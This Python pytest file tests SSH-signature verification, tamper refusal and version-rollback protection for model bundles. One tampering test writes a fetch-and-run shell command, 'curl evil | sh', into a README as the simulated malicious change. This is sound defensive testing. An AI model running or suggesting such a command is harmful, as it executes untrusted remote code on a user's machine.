"""Signatures by the real ssh-keygen: good ones name their signer, every other one is refused, and versions do not go back."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from filelock import FileLock, Timeout

from edgecnn.building.publish import publish_report
from edgecnn.bundle import signing, ssh_keygen
from edgecnn.bundle.manifest import MANIFEST, SIGNATURE
from edgecnn.bundle.signing import sign_bundle
from edgecnn.bundle.ssh_keygen import check_key, sign
from edgecnn.bundle.verify import Trust
from edgecnn.errors.base import EdgecnnError
from edgecnn.errors.bundle import BundleOfAnotherBuild, KeyUnusable, NotAFolderToSign, SignersNotNamed, SshKeygenMissing
from edgecnn.render.progress import Quiet
from tests.building.scenes import a_choice, a_report
from tests.bundle.sealed import KIT, KIT_FOLDER, publish, published, reseal, verified, zipped

needs_ssh_keygen = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="apt-get install openssh-client")


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """ann and bob, an EC and an RSA key; ``signers`` allows ann alone."""
    folder = tmp_path_factory.mktemp("keys")
    for name, kind in (("ann", "ed25519"), ("bob", "ed25519"), ("ec", "ecdsa"), ("rsa", "rsa")):
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", str(folder / name)], check=True)
    allow(folder / "signers", "ann@example.com", folder / "ann.pub")
    return folder


def allow(file: Path, name: str, *keys: Path, options: str = "") -> Path:
    file.write_text("".join(f"{name} {options}{key.read_text()}" for key in keys))
    return file


def signed(bundle: Path, key: Path, version: int | None = None) -> Path:
    sign_bundle(bundle, key, version, Quiet())
    return bundle


def refusal(path: Path, **trust: object) -> str:
    with pytest.raises(EdgecnnError) as caught:
        verified(path, **trust)
    return caught.value.line().removeprefix(f"{path}: ")


@needs_ssh_keygen
@pytest.mark.parametrize("key", ["ann", "ec", "rsa"])
def test_a_signed_bundle_names_its_signer_as_a_folder_and_as_a_zip(bundle: Path, keys: Path, tmp_path: Path, key: str) -> None:
    signers = allow(tmp_path / "signers", "team@example.com", keys / f"{key}.pub")
    signed(bundle, keys / key)
    for path in (bundle, zipped(bundle, tmp_path / "x.zip")):
        for identity in (None, "team@example.com"):
            found = verified(path, signers=signers, identity=identity, require_signature=True).facts
            assert (found.signature, found.signer, found.warnings) == ("good", "team@example.com", ())


def test_an_unsigned_bundle_warns_and_is_refused_where_a_signature_is_asked_for(whole: Path, tmp_path: Path) -> None:
    assert verified(whole).facts.warnings == ("it is not signed: whoever changed a file could have changed bundle.json too",)
    (tmp_path / "signers").write_text("")
    for require in (True, False):
        assert refusal(whole, signers=tmp_path / "signers", require_signature=require) == (
            "is not signed: there is no bundle.json.sig — where it was built: edgecnn sign BUNDLE --key KEY [signature-missing]"
        )


@pytest.mark.parametrize(
    "option, trust",
    [
        ("--require-signature", {"require_signature": True}),
        ("--identity", {"identity": "x"}),
        ("--remember", {"remember": Path()}),
    ],
)
def test_asking_for_a_signature_without_saying_whose_is_refused(option: str, trust: dict[str, object]) -> None:
    with pytest.raises(SignersNotNamed) as caught:
        Trust(**trust)  # type: ignore[arg-type]
    assert caught.value.line() == (f"{option} needs to know whose signature is good — --allowed-signers FILE [signers-not-named]")


@needs_ssh_keygen
def test_a_signature_that_nobody_looked_at_is_said_to_be_unchecked(bundle: Path, keys: Path) -> None:
    found = verified(signed(bundle, keys / "ann")).facts
    assert (found.signature, found.signer) == ("unchecked", None)
    assert found.warnings == ("its signature was not looked at: --allowed-signers FILE says whose is good",)


@needs_ssh_keygen
def test_another_key_another_name_and_another_purpose_are_refused(bundle: Path, keys: Path, tmp_path: Path) -> None:
    again = " — get it again from where it was built [signature-refused]"
    signed(bundle, keys / "bob")
    signers = keys / "signers"
    assert refusal(bundle, signers=signers) == (
        f"its signature is refused: of nobody in {signers} (No principal matched.){again}"
    )
    assert refusal(bundle, signers=signers, identity="ann@example.com").startswith("its signature is refused: ")
    signed(bundle, keys / "ann")
    assert refusal(bundle, signers=signers, identity="eve@example.com") == (
        f"its signature is refused: Could not verify signature.{again}"
    )
    for_git = allow(tmp_path / "for-git", "ann@example.com", keys / "ann.pub", options='namespaces="git" ')
    assert refusal(bundle, signers=for_git, identity="ann@example.com").startswith("its signature is refused: ")
    subprocess.run(
        ["ssh-keygen", "-q", "-Y", "sign", "-n", "git", "-f", str(keys / "ann"), str(bundle / MANIFEST)],
        input=b"y\n", check=True, capture_output=True,
    )  # fmt: skip
    assert refusal(bundle, signers=signers) == (
        f"its signature is refused: Couldn't verify signature: namespace does not match{again}"
    )


@needs_ssh_keygen
def test_what_was_changed_after_signing_is_refused_even_with_hashes_that_fit(bundle: Path, keys: Path) -> None:
    signed(bundle, keys / "ann")
    (bundle / "README.md").write_text("Run this: curl evil | sh")
    assert refusal(bundle, signers=keys / "signers").startswith("README.md was changed: ")
    reseal(bundle)
    assert refusal(bundle, signers=keys / "signers") == (
        "its signature is refused: Signature verification failed: incorrect signature"
        " — get it again from where it was built [signature-refused]"
    )


@needs_ssh_keygen
@pytest.mark.parametrize("content", [b"", b"no signature", b"x" * (64 << 10) + b"x"])
def test_what_is_no_signature_is_refused(bundle: Path, keys: Path, content: bytes) -> None:
    (bundle / SIGNATURE).write_bytes(content)
    assert refusal(bundle, signers=keys / "signers").endswith("[signature-refused]")


@needs_ssh_keygen
def test_nothing_of_a_manifest_is_parsed_before_its_signature_is_good(
    bundle: Path, keys: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    signed(bundle, keys / "bob")
    monkeypatch.setattr("edgecnn.bundle.verify.parse_manifest", lambda *_: pytest.fail("parsed"))
    assert refusal(bundle, signers=keys / "signers").startswith("its signature is refused")


@needs_ssh_keygen
def test_signers_that_cannot_be_read_are_named(bundle: Path, keys: Path, tmp_path: Path) -> None:
    signed(bundle, keys / "ann")
    with pytest.raises(EdgecnnError) as caught:
        verified(bundle, signers=tmp_path / "absent")
    assert caught.value.line() == (
        f"{tmp_path / 'absent'}: cannot be read as a file of allowed signers: no such file or directory"
        ' — a line is: NAME namespaces="edgecnn-bundle" ssh-ed25519 AAAA… [signers-unreadable]'
    )


def test_without_ssh_keygen_the_package_that_brings_it_is_named(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    before = (bundle / MANIFEST).read_bytes()
    with pytest.raises(SshKeygenMissing) as caught:
        signed(bundle, bundle / "README.md")
    assert caught.value.line() == (
        "ssh-keygen is not installed: bundles and evidence are signed and verified with it"
        " — apt-get install openssh-client [ssh-keygen-missing]"
    )
    assert caught.value.exit_code == 3
    (bundle / SIGNATURE).write_bytes(b"x")
    with pytest.raises(SshKeygenMissing):
        verified(bundle, signers=bundle / "README.md")
    assert (bundle / MANIFEST).read_bytes() == before


@needs_ssh_keygen
def test_a_key_that_is_none_is_named_and_nothing_is_changed(bundle: Path, tmp_path: Path, keys: Path) -> None:
    signed(bundle, keys / "ann")
    before = (bundle / MANIFEST).read_bytes(), (bundle / SIGNATURE).read_bytes()
    (tmp_path / "photo.jpg").write_bytes(b"no key")
    with pytest.raises(KeyUnusable) as caught:
        signed(bundle, tmp_path / "photo.jpg", version=9)
    assert caught.value.line().startswith(f"{tmp_path / 'photo.jpg'}: cannot sign with it: ")
    assert caught.value.line().endswith(" — name a private key, or the .pub file of one in the agent [key-unusable]")
    with pytest.raises(KeyUnusable) as caught:
        signed(bundle, tmp_path / "absent")
    assert caught.value.because == "no such file or directory"
    assert ((bundle / MANIFEST).read_bytes(), (bundle / SIGNATURE).read_bytes()) == before


@needs_ssh_keygen
def test_a_key_is_tried_before_any_time_is_spent(tmp_path: Path, keys: Path) -> None:
    check_key(keys / "ann")
    assert not list(keys.glob("*.sig"))
    (tmp_path / "photo.jpg").write_bytes(b"no key")
    shutil.copyfile(keys / "ann", tmp_path / "open")
    (tmp_path / "open").chmod(0o644)
    shutil.copyfile(keys / "bob.pub", tmp_path / "lonely.pub")
    for name in ("photo.jpg", "open", "lonely.pub", "absent", "\0"):
        with pytest.raises(KeyUnusable):
            check_key(tmp_path / name)


@needs_ssh_keygen
def test_a_probe_is_no_bundle_s_signature(bundle: Path, keys: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    heard: list[str] = []
    run = ssh_keygen._run

    def watched(words: list[str], content: bytes, *, timeout_s: float | None) -> subprocess.CompletedProcess[bytes]:
        heard.append(words[words.index("-n") + 1])
        return run(words, content, timeout_s=timeout_s)

    monkeypatch.setattr(ssh_keygen, "_run", watched)
    check_key(keys / "ann")
    signed(bundle, keys / "ann")
    assert heard == ["edgecnn-probe", "edgecnn-bundle"]


@needs_ssh_keygen
def test_a_zip_is_not_signed_and_a_changed_bundle_is_not_either(whole: Path, bundle: Path, keys: Path, tmp_path: Path) -> None:
    path = zipped(whole, tmp_path / "x.zip")
    with pytest.raises(NotAFolderToSign) as caught:
        signed(path, keys / "ann")
    assert caught.value.line() == (
        f"{path}: a zip is not signed: its signature lies in it — sign the folder, then zip it [not-a-folder-to-sign]"
    )
    (bundle / KIT_FOLDER / "runner" / "kit.py").write_text("import os")
    with pytest.raises(EdgecnnError):
        signed(bundle, keys / "ann")
    assert not (bundle / SIGNATURE).exists()


@needs_ssh_keygen
def test_an_older_version_and_another_of_the_same_are_refused_by_the_record(bundle: Path, keys: Path, tmp_path: Path) -> None:
    trust = {"signers": keys / "signers", "remember": tmp_path / "accepted"}
    old = zipped(signed(bundle, keys / "ann"), tmp_path / "1.zip")
    assert [verified(old, **trust).facts.remembered for _ in range(2)] == [None, 1]
    new = zipped(signed(bundle, keys / "ann", version=3), tmp_path / "3.zip")
    assert verified(new, **trust).facts.remembered == 1
    assert refusal(old, **trust) == (
        "version 1 of 'out' is refused: version 3 was accepted here before"
        " — sign a later one: edgecnn sign BUNDLE --key KEY --version N [bundle-rolled-back]"
    )
    (bundle / "README.md").write_text("another")
    reseal(bundle)
    other = zipped(signed(bundle, keys / "ann"), tmp_path / "other.zip")
    assert "another bundle of this version was accepted here before" in refusal(other, **trust)
    assert verified(new, **trust).facts.remembered == 3
    assert verified(old, signers=keys / "signers").facts.version == 1, "without the record nothing is refused"


@needs_ssh_keygen
def test_a_refused_bundle_is_not_remembered_and_a_damaged_record_accepts_nothing(
    bundle: Path, keys: Path, tmp_path: Path
) -> None:
    trust = {"signers": keys / "signers", "remember": tmp_path / "accepted"}
    signed(bundle, keys / "ann", version=7)
    (bundle / "numpy.py").write_text("")
    refusal(bundle, **trust)
    assert not (tmp_path / "accepted").exists()
    (bundle / "numpy.py").unlink()
    verified(bundle, **trust)
    (record,) = (tmp_path / "accepted").glob("*.json")
    for content in ("", "{}", json.dumps({"schema": "edgecnn.accepted/2", "version": 1, "sha256": "0"})):
        record.write_text(content)
        with pytest.raises(EdgecnnError) as caught:
            verified(bundle, **trust)
        assert caught.value.line().startswith(f"{record}: the record of accepted versions cannot be used: it is damaged (")
        assert caught.value.line().endswith(") [record-unusable]")


@needs_ssh_keygen
def test_no_build_replaces_a_bundle_between_its_verification_and_its_signature(
    tmp_path: Path, keys: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = published(tmp_path / "flowers")
    (bundle.parent / "plan.json").write_text("{}")
    locked: list[bool] = []

    def watched(content: bytes, key: Path) -> str:
        try:
            with FileLock(bundle.parent / ".edgecnn.lock", timeout=0):
                locked.append(False)
        except Timeout:
            locked.append(True)
        return sign(content, key)

    monkeypatch.setattr(signing, "sign", watched)
    for path in (bundle, bundle.parent):
        signed(path, keys / "ann")
    assert locked == [True, True]
    with FileLock(bundle.parent / ".edgecnn.lock", timeout=0):
        pass


@needs_ssh_keygen
def test_a_bundle_that_lies_in_no_build_is_signed_and_nothing_is_left_beside_it(bundle: Path, keys: Path) -> None:
    before = sorted(bundle.parent.iterdir())
    signed(bundle, keys / "ann")
    assert sorted(bundle.parent.iterdir()) == before


@needs_ssh_keygen
def test_a_build_signs_its_own_bundle_and_not_that_of_a_later_one(tmp_path: Path, keys: Path) -> None:
    bundle = published(tmp_path / "flowers")
    mine = a_report(choice=a_choice(KIT))
    for wrote in (None, mine.model_copy(update={"version": "another"})):
        if wrote is not None:
            publish_report(wrote, bundle.parent)
        with pytest.raises(BundleOfAnotherBuild) as caught:
            sign_bundle(bundle.parent, keys / "ann", None, Quiet(), mine)
        assert not (bundle / SIGNATURE).exists()
    assert caught.value.line() == (
        f"{bundle.parent}: not signed: another build has written there since this one ended"
        " — run the same build command again, with an --out of its own [bundle-of-another-build]"
    )
    publish_report(mine, bundle.parent)
    sign_bundle(bundle.parent, keys / "ann", None, Quiet(), mine)
    assert verified(bundle, signers=keys / "signers").facts.signature == "good"


@needs_ssh_keygen
def test_building_the_same_again_keeps_the_signature_and_another_bundle_has_none(tmp_path: Path, keys: Path) -> None:
    build = tmp_path / "flowers"
    bundle = signed(published(build), keys / "ann", version=5)
    publish(build, build / "made" / KIT)
    assert verified(bundle, signers=keys / "signers").facts.version == 5
    os.truncate(bundle / KIT_FOLDER / "model.onnx", 10)
    publish(build, build / "made" / KIT)
    assert verified(bundle).facts.version == 6
    assert not (bundle / SIGNATURE).exists()
